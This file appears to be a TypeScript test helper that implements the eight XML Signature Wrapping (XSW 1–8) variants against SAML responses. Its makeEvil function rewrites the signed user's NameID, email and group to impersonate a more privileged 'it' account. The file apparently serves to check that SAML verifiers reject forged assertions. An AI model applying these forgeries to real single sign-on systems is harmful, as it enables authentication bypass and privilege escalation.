/** The ways in which a signature stays valid while something else is read (XML signature wrapping), by their usual numbers. */
export const wrappings: Readonly<Record<string, (xml: string) => string>> = {
  // Of an answer that is signed as a whole.
  'XSW 1: all of the answer within its own signature': (xml) => {
    const { evil, original, signature } = splitAnswer(xml)
    return evil.replace('<saml:Assertion', `${within(signature, original)}<saml:Assertion`)
  },
  'XSW 2: all of the answer before its own signature': (xml) => {
    const { evil, original, signature } = splitAnswer(xml)
    return evil.replace('<saml:Assertion', `${original}${signature}<saml:Assertion`)
  },
  // Of an answer whose assertion is signed.
  'XSW 3: another assertion before it': (xml) => withAssertion(xml, ({ evil, signed }) => evil + signed),
  'XSW 4: another assertion around it': (xml) =>
    withAssertion(xml, ({ evil, signed }) => evil.replace('</saml:Assertion>', `${signed}</saml:Assertion>`)),
  'XSW 5: its signature in another one, and itself after that': (xml) =>
    withAssertion(xml, ({ evil, bare, signature }) => withSignature(evil, signature) + bare),
  'XSW 6: itself within its signature in another one': (xml) =>
    withAssertion(xml, ({ evil, bare, signature }) =>
      withSignature(evil, signature.replace('</ds:Signature>', `${bare}</ds:Signature>`)),
    ),
  'XSW 7: another assertion in an extension': (xml) =>
    withAssertion(
      xml,
      ({ evil, signed }) =>
        `<samlp:Extensions xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">${evil}</samlp:Extensions>${signed}`,
    ),
  'XSW 8: itself in an object of its signature in another one': (xml) =>
    withAssertion(xml, ({ evil, bare, signature }) => withSignature(evil, within(signature, bare))),
}

const signatures = /<ds:Signature [\s\S]*?<\/ds:Signature>/
const assertions = /<saml:Assertion [\s\S]*<\/saml:Assertion>/

/** Says that it is somebody else, whose groups give more. */
export const makeEvil = (xml: string) =>
  xml
    .replace(/(<saml:NameID [^>]*>)[^<]*/, '$1it')
    .replace('ann&#64;harbour.test', 'it@harbour.test')
    .replace('ann@harbour.test', 'it@harbour.test')
    .replace('>staff<', '>it<')

function withAssertion(
  xml: string,
  wrap: (parts: { evil: string; signed: string; bare: string; signature: string }) => string,
): string {
  const [signed = ''] = assertions.exec(xml) ?? []
  const [signature = ''] = signatures.exec(signed) ?? []
  const bare = signed.replace(signatures, '')
  const evil = makeEvil(bare).replace(/ ID="[^"]+"/, ' ID="_evil"')
  return xml.replace(assertions, () => wrap({ evil, signed, bare, signature }))
}

function splitAnswer(xml: string) {
  // The signature of all comes right after the issuer; that of the assertion stands in it.
  const all = /(<\/saml:Issuer>)(<ds:Signature [\s\S]*?<\/ds:Signature>)/.exec(xml.replace(assertions, ''))
  const signature = all?.[2] ?? ''
  const original = xml.replace(signature, '').replace(/^<\?xml[^>]*\?>/, '')
  const evil = makeEvil(original.replace(signatures, ''))
    .replace(/ ID="[^"]+"/, ' ID="_evil_answer"')
    .replace(/(<saml:Assertion [^>]*) ID="[^"]+"/, '$1 ID="_evil"')
  return { evil, original, signature }
}

const withSignature = (assertion: string, signature: string) =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${signature}`)

const within = (signature: string, content: string) =>
  signature.replace('</ds:Signature>', `<ds:Object>${content}</ds:Object></ds:Signature>`)
